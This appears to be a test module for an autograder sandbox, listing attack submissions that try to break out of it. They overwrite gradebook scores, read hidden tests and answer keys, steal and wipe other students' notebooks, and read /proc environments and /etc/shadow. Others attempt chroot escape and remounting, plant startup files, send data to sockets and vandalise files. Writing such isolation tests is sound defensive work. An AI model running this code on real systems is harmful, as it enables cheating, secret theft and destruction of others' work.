"""Files: what the submission must not read, and where it must not write."""

from tests.attacks.attack import WRONG, Attack

# Paths that fit a pattern: of the canary, or in a folder above, where nbgrader works.
NEARBY = """
import glob
def nearby(pattern):
    above = ["../" * levels for levels in range(8)]
    folders = ["CANARY/", *above]
    return [path for folder in folders for path in glob.glob(folder + pattern)]
"""
ATTACKS = [
    Attack(
        "gradebook-manual-score",
        "writes manual scores into the gradebook",
        NEARBY
        + """
import sqlite3
for path in nearby("gradebook.db"):
    try:
        with sqlite3.connect(path) as book:
            book.execute("update grade set manual_score = 20")
    except sqlite3.Error as reason:
        print(reason)
"""
        + WRONG,
    ),
    Attack(
        "hidden-tests",
        "reads the hidden tests and the key from the course's folder",
        NEARBY
        + """
import pathlib
for path in [*nearby("hidden_tests.py"), *nearby("source/*/*.ipynb"),
             "ROOT/grading/hidden/logistic_regression.py",
             "ROOT/solutions/logistic_regression.py"]:
    try:
        print(pathlib.Path(path).read_text())
    except OSError as reason:
        print(reason)
"""
        + WRONG,
    ),
    Attack(
        "other-submission",
        "hands in the answer of a neighbour, whose file it empties",
        NEARBY
        + WRONG
        + """
import json
for path in [*nearby("submitted/*/*.ipynb"), *nearby("submitted/*/*/*.ipynb")]:
    try:
        cells = json.load(open(path))["cells"]
        answers = ["".join(cell["source"]) for cell in cells]
        (answer, *_) = [text for text in answers if text.startswith("\\ndef cost")]
        exec(answer)
        open(path, "w").close()
        break
    except (OSError, ValueError) as reason:
        print(reason)
""",
    ),
    Attack(
        "proc-of-others",
        "reads environ, cmdline, maps and cwd of every process in /proc",
        """
import glob
for pattern in ("environ", "cmdline", "mem", "maps", "task/*/environ"):
    for path in glob.glob("/proc/[0-9]*/" + pattern):
        try:
            print(path, open(path, "rb").read(100_000))
        except OSError as reason:
            print(path, reason)
"""
        + WRONG,
    ),
    Attack(
        "proc-root",
        "goes around the covers by /proc/1/root and /proc/1/cwd",
        """
import os
for start in ("/proc/1/root", "/proc/self/root", "/proc/1/cwd/..", "/proc/2/root"):
    try:
        print(open(start + "CANARY/hidden_tests.py").read())
    except OSError as reason:
        print(reason)
"""
        + WRONG,
    ),
    Attack(
        "inherited-descriptors",
        "reads and seeks every open descriptor",
        """
import os, fcntl
for number in range(3, 256):
    try:
        fcntl.fcntl(number, fcntl.F_GETFD)
        print(number, os.readlink(f"/proc/self/fd/{number}"))
        print(os.pread(number, 4096, 0))
        print(os.listdir(number))
    except OSError:
        pass
"""
        + WRONG,
    ),
    Attack(
        "symlinks",
        "leaves symbolic links to the gradebook and reads through them",
        """
import os
for name in ("/tmp/link", "link.ipynb", "feedback.html"):
    try:
        os.symlink("CANARY/gradebook.db", name)
        with open(name, "r+", errors="replace") as file:
            print(file.read()); file.write("5 points")
    except OSError as reason:
        print(reason)
"""
        + WRONG,
    ),
    Attack(
        "hard-links",
        "hard links to files outside, which survive a cover",
        """
import os
for path in ("CANARY/gradebook.db", "/etc/passwd", "/etc/shadow"):
    try:
        name = "/tmp/hard" + str(len(path))
        os.link(path, name)
        print(open(name, errors="replace").read())
    except OSError as reason:
        print(reason)
"""
        + WRONG,
    ),
    Attack(
        "writes-outside",
        "writes to system folders, the home folder and shared memory",
        """
import os, pathlib
for folder in ("/", "/etc", "/usr", "/var/tmp", "/dev/shm", "/run", "CANARY", "ROOT",
               os.path.expanduser("~"), "..", os.path.dirname(np.__file__)):
    try:
        pathlib.Path(folder, "attack-was-here").write_text("x")
    except OSError as reason:
        print(reason)
"""
        + WRONG,
    ),
    Attack(
        "poisoned-start",
        "plants start-up files for the next submission's interpreter",
        """
import pathlib, site, os, sys
home = pathlib.Path(os.path.expanduser("~"))
spots = [home / ".ipython/profile_default/startup/0.py", home / ".pythonrc.py",
         pathlib.Path(site.getusersitepackages()) / "usercustomize.py",
         pathlib.Path(np.__file__).with_name("__pycache__") / "x.pyc",
         pathlib.Path("/tmp/sitecustomize.py"), pathlib.Path("numpy.py")]
spots += [pathlib.Path(p) / "attack-was-here.pth" for p in sys.path if p]
for spot in spots:
    try:
        spot.parent.mkdir(parents=True, exist_ok=True)
        spot.write_text("raise SystemExit('attack-was-here')")
    except OSError as reason:
        print(reason)
"""
        + WRONG,
    ),
    Attack(
        "imports-the-key",
        "imports solutions, grading.hidden and the modules of the grader",
        """
import importlib, sys
sys.path[:0] = ["ROOT", "/", ".."]
for name in ("solutions.logistic_regression", "grading.hidden.logistic_regression",
             "grading.checks.isolate", "grading.trusted.grade"):
    try:
        module = importlib.import_module(name)
        print("IMPORTED", name, module.__file__)
    except BaseException as reason:
        print(type(reason))
"""
        + WRONG,
    ),
    Attack(
        "environment-secrets",
        "reads the environment, its own and the one on the stack",
        """
import os, ctypes
print(dict(os.environ))
try:
    environ = ctypes.POINTER(ctypes.c_char_p).in_dll(ctypes.CDLL(None), "environ")
    i = 0
    while environ[i]:
        print(environ[i]); i += 1
except ValueError as reason:
    print(reason)
if os.path.exists("/proc/self/environ"):
    print(open("/proc/self/environ", "rb").read())
"""
        + WRONG,
    ),
    Attack(
        "unmount",
        "unmounts what covers the course's folder, or mounts it again",
        """
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
for target in ("CANARY/", "ROOT/", "/tmp", "/var/tmp", "/home", "/root", "/"):
    libc.umount2(target.encode(), 2)
libc.unshare(0x00020000)
libc.mount(b"/", b"/tmp", None, 4096, None)
libc.mount(b"/", b"/", None, 32 | 4096, None)
for path in ("CANARY/hidden_tests.py", "/tmp/CANARY/hidden_tests.py"):
    try:
        print(open(path).read())
    except OSError as reason:
        print(reason)
"""
        + WRONG,
    ),
    Attack(
        "chroot-escape",
        "the classical way out of a chroot, and pivot_root",
        """
import os
try:
    os.mkdir("/tmp/hole")
    fd = os.open("/", os.O_RDONLY)
    os.chroot("/tmp/hole")
    os.fchdir(fd)
    for _ in range(50):
        os.chdir("..")
    os.chroot(".")
except OSError as reason:
    print(reason)
try:
    print(open("CANARY/hidden_tests.py").read())
except OSError as reason:
    print(reason)
"""
        + WRONG,
    ),
    Attack(
        "devices",
        "makes and opens devices: disks, memory, kernel messages",
        """
import os, stat, glob
for kind, major, minor in ((stat.S_IFBLK, 8, 0), (stat.S_IFBLK, 253, 0),
                           (stat.S_IFCHR, 1, 1)):
    try:
        os.mknod(f"/tmp/device{major}", kind | 0o666, os.makedev(major, minor))
        print("OPENED", open(f"/tmp/device{major}", "rb").read(10))
    except OSError as reason:
        print(reason)
for path in ("/dev/mem", "/dev/kmsg", "/dev/sda", "/proc/kcore", "/proc/kmsg"):
    try:
        os.close(os.open(path, os.O_RDONLY | os.O_NONBLOCK)); print("OPENED", path)
    except OSError as reason:
        print(reason)
"""
        + WRONG,
    ),
    Attack(
        "loopback",
        "sends what it knows to a listening port and to abstract sockets",
        """
import socket
for family, address in ((socket.AF_INET, ("127.0.0.1", PORT)),
                        (socket.AF_UNIX, "\\0attack-canary"),
                        (socket.AF_INET, ("192.0.2.1", 80))):
    try:
        with socket.socket(family, socket.SOCK_STREAM) as line:
            line.settimeout(0.2)
            line.connect(address)
            line.sendall(b"here I am")
    except OSError as reason:
        print(reason)
"""
        + WRONG,
    ),
    Attack(
        "own-memory",
        "searches its own memory for what the grader left in it",
        """
import gc, os, re
token = "SECRET-" + "CANARY"
found = [o for o in gc.get_objects() if isinstance(o, (str, dict, list))
         and len(o) < 1000 and token in str(o)[:10_000]]
print(len(found))
maps, mem = "/proc/self/maps", "/proc/self/mem"
if not os.path.exists(maps):
    maps = mem = os.devnull
with open(maps) as maps, open(mem, "rb") as memory:
    for line in maps:
        if "[heap]" in line:
            a, b = (int(x, 16) for x in line.split()[0].split("-"))
            memory.seek(a)
            for hit in re.finditer(b"def tru[e]_cost", memory.read(b - a)):
                print("HIDDEN-THERE", hit.start())
"""
        + WRONG,
    ),
    Attack(
        "whole-tree",
        "walks the whole tree for anything that looks like the course",
        """
import os
shown = "SHOWN".split(os.pathsep)
for folder, names, files in os.walk("/"):
    names[:] = [name for name in names if os.path.join(folder, name) not in shown]
    for name in files:
        if name in ("hidden_tests.py", "gradebook.db", "notebook.ipynb"):
            print("FOUND", folder, name)
            print(open(os.path.join(folder, name), errors="replace").read())
"""
        + WRONG,
    ),
]

# Found later, with the code at hand.
ATTACKS += [
    Attack(
        "answer-from-the-source",
        "takes its functions out of the hidden tests in the source notebook",
        NEARBY
        + WRONG
        + """
import json
for path in nearby("source/*/*.ipynb"):
    try:
        cells = json.load(open(path))["cells"]
        (text, *_) = ["".join(c["source"]) for c in cells if "def true_" in str(c)]
        exec(text[text.index("def true_"):text.index("### END HIDDEN")])
        cost, gradient = true_cost, true_gradient
        break
    except (OSError, ValueError) as reason:
        print(reason)
""",
    ),
    Attack(
        "answer-from-the-gradebook",
        "takes its functions out of the checks that the gradebook keeps",
        NEARBY
        + WRONG
        + """
import sqlite3
for path in nearby("gradebook.db"):
    try:
        with sqlite3.connect(path) as book:
            rows = book.execute("select source from source_cell").fetchall()
        (text, *_) = [row[0] for row in rows if "def true_" in row[0]]
        exec(text[text.index("def true_"):text.index("### END HIDDEN")])
        cost, gradient = true_cost, true_gradient
        break
    except (sqlite3.Error, ValueError) as reason:
        print(reason)
""",
    ),
    Attack(
        "vandal",
        "empties every notebook and database that it can write",
        NEARBY
        + """
for pattern in ("*/*.ipynb", "*/*/*.ipynb", "*/*/*/*.ipynb", "gradebook.db"):
    for path in nearby(pattern):
        try:
            open(path, "w").close()
        except OSError as reason:
            print(reason)
"""
        + WRONG,
    ),
    Attack(
        "packages-of-others",
        "searches all folders of packages for a library that answers",
        """
import contextlib, glob, os, sys
for top in {sys.prefix, sys.base_prefix, "/usr", "/usr/local", "/opt"}:
    sys.path += glob.glob(f"{top}/lib*/python*/*-packages")
with contextlib.suppress(ImportError):
    import sklearn.linear_model, sklearn.metrics  # longer than a check may take
def answer(w, X, Y):
    from sklearn.linear_model import LogisticRegression
    from sklearn.metrics import log_loss
    P = 1 / (1 + np.exp(-w @ X))
    return log_loss(Y[0], P[0], labels=[0, 1]), LogisticRegression
def cost(w, X, Y):
    return answer(w, X, Y)[0]
def gradient(w, X, Y):
    import autograd
    from autograd import numpy as anp
    def loss(w):
        return anp.mean(anp.logaddexp(0.0, w @ X) - Y * (w @ X))
    return autograd.grad(loss)(w)
""",
        cpu=10.0,
        says="No module named 'sklearn'. While this is graded there are",
    ),
]
